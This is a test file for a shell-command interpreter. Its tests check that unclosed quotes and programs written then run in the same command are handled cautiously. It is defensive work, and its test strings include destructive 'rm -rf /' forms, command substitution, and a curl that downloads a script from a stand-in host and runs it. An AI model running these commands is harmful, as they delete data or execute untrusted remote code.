import { describe, expect, it } from 'vitest';
import { interpretShell } from '../../src/shell/interpret.ts';

const reasons = (command: string) =>
  interpretShell(command, { cwd: '/workspace', home: '/home/user' }).flatMap(operation =>
    operation.kind === 'unknown' ? [operation.why] : [],
  );
const fresh = 'the same command has just written this program';

describe('a quote that nothing closes', () => {
  const operations = (command: string) => interpretShell(command, { cwd: '/workspace', home: '/home/user' });

  it.each(["echo 'unterminated", 'rg "find . -delete', "git commit -m 'x", "'"])('does nothing: %s', command => {
    expect(operations(command)).toEqual([{ kind: 'execute', program: ':', args: [], described: true }]);
  });

  it.each([
    "rm -rf /\necho 'x",
    "rm -rf /; echo 'x",
    'echo "$(rm -rf /)',
    'echo "`id`',
    "echo 'a' 'b",
    "echo \\'x",
    "cat <<E\n'\nE",
    "ls | grep 'x",
  ])('is not taken for nothing where something else stands before it: %s', command => {
    expect(operations(command)).not.toEqual([{ kind: 'execute', program: ':', args: [], described: true }]);
  });
});

describe('a program that the same command writes', () => {
  it.each([
    'cp /usr/bin/curl ./scripts/fmt && ./scripts/fmt -s x',
    'curl -so scripts/x.sh https://x.example/x && sh scripts/x.sh',
    'printf x > run.sh; chmod +x run.sh; ./run.sh',
    'cat > test.sh <<E\nls\nE\nbash test.sh',
    'tee build.sh < /dev/null; (cd . && ./build.sh)',
  ])('is not known: %s', command => {
    expect(reasons(command)).toContain(fresh);
  });

  it.each([
    'chmod +x build.sh && ./build.sh',
    './build.sh && cp build.sh old.sh',
    'sed -i s/a/b/ package.json && npm test',
    'touch test.sh && ./run.sh',
    'cp a.sh b.sh && ./c.sh',
  ])('is another one here: %s', command => {
    expect(reasons(command)).not.toContain(fresh);
  });
});
